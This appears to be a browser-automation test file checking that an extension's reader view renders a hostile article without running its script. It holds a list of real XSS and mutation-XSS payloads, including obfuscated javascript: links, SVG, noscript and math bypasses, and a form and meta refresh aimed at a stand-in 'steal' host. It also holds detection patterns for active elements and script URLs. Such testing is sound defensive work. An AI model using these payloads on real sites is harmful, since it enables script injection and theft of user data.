// Safe rendering: an article whose body is full of script-injection payloads. Opening the reader
// must run none of them (each would set `window.__xss`), and the reader's shadow root must hold no
// event attribute, no `javascript:` URL and no active element (iframe, object, embed, form,
// script, base, meta, template) — in both browsers.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { getByRole } from './a11y.ts';
import {
  browserAvailable,
  launch,
  openPopupFor,
  startServer,
  waitFor,
  type BrowserName,
  type ExtensionBrowser,
  type TestServer,
} from './harness.ts';
import { PARAGRAPHS, articleHtml } from '../fixtures/hostile/pages.ts';

const HOST = 'www.linjiang.gov.cn';
/** A host the tests resolve to the loopback server: a hijacked form or refresh would show there. */
const EVIL = 'http://news.example.org';

/** Each payload, if it ever ran, records its name in `window.top.__xss`. */
const mark = (name: string): string => `top.__xss=(top.__xss||[]).concat('${name}')`;

const PAYLOADS = [
  `<p>图片<img src="/missing-1.png" onerror="${mark('img-onerror')}" alt="图"></p>`,
  `<p><a href="javascript:${mark('js-link')}">点击查看</a> <a href=" JaVaScRiPt:${mark('js-link-case')}">详情</a> <a href="&#106;avascript:${mark('js-link-entity')}">附件</a> <a href="java&#x09;script:${mark('js-link-tab')}">原文</a></p>`,
  `<svg width="10" height="10"><script>${mark('svg-script')}</script><a xlink:href="javascript:${mark('svg-link')}"><text y="9">x</text></a><animate onbegin="${mark('svg-onbegin')}" attributeName="x" dur="1s"/><set attributeName="onload" to="${mark('svg-set')}"/></svg>`,
  `<iframe srcdoc="&lt;script&gt;parent.__xss=(parent.__xss||[]).concat('srcdoc')&lt;/script&gt;"></iframe>`,
  `<iframe src="javascript:parent.__xss=(parent.__xss||[]).concat('iframe-js')"></iframe>`,
  `<base href="${EVIL}/base-hijack/">`,
  `<form action="${EVIL}/steal-form" method="post"><input name="q" value="群众"><button formaction="javascript:${mark('formaction')}">提交意见</button></form>`,
  `<div style="background:url(javascript:${mark('css-url')});width:expression(${mark('css-expression')})">样式说明</div>`,
  // Delayed so that the page itself stays put; the reader must not carry it at all.
  `<meta http-equiv="refresh" content="3600;url=${EVIL}/steal-refresh">`,
  `<object data="javascript:${mark('object')}"></object><embed src="javascript:${mark('embed')}">`,
  `<p onclick="${mark('onclick')}" onmouseover="${mark('onmouseover')}" onfocus="${mark('onfocus')}" tabindex="0" autofocus>会议强调，要坚持以人民为中心。</p>`,
  `<details open ontoggle="${mark('ontoggle')}"><summary>展开</summary>内容</details>`,
  `<video><source onerror="${mark('video-source')}"></video><audio src="/missing-2.mp3" onerror="${mark('audio')}"></audio>`,
  `<template><img src="/missing-3.png" onerror="${mark('template')}"></template>`,
  `<noscript><p title="</noscript><img src=/missing-4.png onerror=${mark('mxss-noscript')}>"></p></noscript>`,
  `<svg></p><style><a id="</style><img src=/missing-5.png onerror=${mark('mxss-svg-style')}>"></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=/missing-6.png onerror=${mark('mxss-math')}>`,
  `<table><tr><td background="javascript:${mark('td-background')}" onmouseenter="${mark('td')}">表格</td></tr></table>`,
  `<img srcset="javascript:${mark('srcset')} 1x" src="/missing-7.png"><input type="image" src="/missing-8.png" onerror="${mark('input-image')}">`,
  `<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">数据链接</a><a href="vbscript:msgbox(1)">旧链接</a>`,
  `<div data-x="1" onanimationstart="${mark('onanimationstart')}" style="animation:spin 1s">动画</div>`,
  `<marquee onstart="${mark('marquee')}">滚动</marquee><body onload="${mark('body-onload')}"><frameset onload="${mark('frameset')}">`,
  `<link rel="stylesheet" href="${EVIL}/steal-css.css"><style>@import url('${EVIL}/steal-import.css');</style>`,
  `<script>${mark('script-in-body')}</script>`,
];

interface Audit {
  problems: string[];
  xss: string[];
  title: string;
  text: string;
  location: string;
}

/** Runs in the page: everything active or script-bearing inside the reader's shadow root. */
function auditReader(): Audit {
  const root = document.querySelector('qingyue-reader')!.shadowRoot!;
  const problems: string[] = [];
  const forbidden =
    'iframe, frame, frameset, object, embed, form, script, base, meta, template, link, noscript, applet';
  for (const el of Array.from(root.querySelectorAll(forbidden)))
    problems.push(`element ${el.localName}`);
  for (const el of Array.from(root.querySelectorAll('*'))) {
    for (const attr of Array.from(el.attributes)) {
      // Browsers drop whitespace and control characters inside a URL's scheme.
      // eslint-disable-next-line no-control-regex
      const squashed = attr.value.replace(/[\s\u0000-\u001f]+/g, '').toLowerCase();
      if (attr.name.toLowerCase().startsWith('on')) problems.push(`${el.localName}[${attr.name}]`);
      if (
        /^(javascript|vbscript|data):/.test(squashed) ||
        /javascript:|expression\(/.test(squashed)
      )
        problems.push(`${el.localName}[${attr.name}=${attr.value}]`);
    }
  }
  // Links and images the reader keeps resolve to http(s) only.
  for (const el of Array.from(root.querySelectorAll('a[href], img[src]'))) {
    const url = (el as HTMLAnchorElement).href || (el as HTMLImageElement).src || '';
    if (url && !/^https?:/.test(url)) problems.push(`url ${url}`);
  }
  return {
    problems,
    xss: (window as unknown as { __xss?: string[] }).__xss ?? [],
    title: document.title,
    text: root.querySelector('article')?.textContent ?? '',
    location: location.href,
  };
}

/** Spreads the payloads between the article's own paragraphs, so they land inside the body. */
function xssArticle(): string {
  const body = PARAGRAPHS.flatMap((p, i) => [
    `<p>${p}</p>`,
    ...PAYLOADS.slice(i * 4, i * 4 + 4),
  ]).join('\n');
  return articleHtml({ extraBody: body + PAYLOADS.slice(24).join('\n') });
}

for (const name of ['chromium', 'firefox'] as BrowserName[]) {
  describe.skipIf(!browserAvailable(name))(
    `${name}: the reader renders hostile markup safely`,
    () => {
      let ext: ExtensionBrowser;
      let server: TestServer;

      beforeAll(async () => {
        server = await startServer();
        server.route('/xss/article.html', xssArticle());
        ext = await launch(name);
      });
      afterAll(async () => {
        await ext?.close();
        await server?.close();
      });

      it('opens the reader without running any payload, and keeps nothing active', async () => {
        const page = await ext.browser.newPage();
        const url = server.url(HOST, '/xss/article.html');
        await page.goto(url, { waitUntil: 'load' });
        // The page itself runs some payloads (it is the page's markup); let them fire, then forget them.
        await new Promise((done) => setTimeout(done, 1000));
        const fromPage = await page.evaluate(
          () => (window as unknown as { __xss?: string[] }).__xss,
        );
        // The page's own payloads did run: proof that each marker works when its code runs.
        expect(fromPage).toEqual(expect.arrayContaining(['img-onerror', 'svg-script']));
        await page.evaluate(() => {
          (window as unknown as { __xss?: string[] }).__xss = undefined;
        });
        const seenBefore = server.requests.length;

        const popup = await openPopupFor(ext, url);
        await (await getByRole(popup, 'button', 'Open reader view')).click();
        await waitFor(
          page,
          () => !!document.querySelector('qingyue-reader')?.shadowRoot?.querySelector('article h1'),
        );
        await page.bringToFront();
        // Give anything that would fire (error events, toggles, animations, refresh) time to fire.
        await page.mouse.move(640, 450);
        await new Promise((done) => setTimeout(done, 1500));

        const found = await page.evaluate(auditReader);
        expect(found.xss).toEqual([]);
        expect(found.problems).toEqual([]);
        expect(found.title).not.toMatch(/xss/i);
        expect(found.location).toBe(url);
        // The reader still shows the article's text around the payloads.
        expect(found.text).toContain('会议强调，各级各部门要强化责任担当');
        // Nothing left the page because of the reader: no hijacked form, refresh or stylesheet.
        const after = server.requests.slice(seenBefore).join('\n');
        expect(after).not.toMatch(/steal|base-hijack/);
        await popup.close();
        await page.close();
      });
    },
  );
}
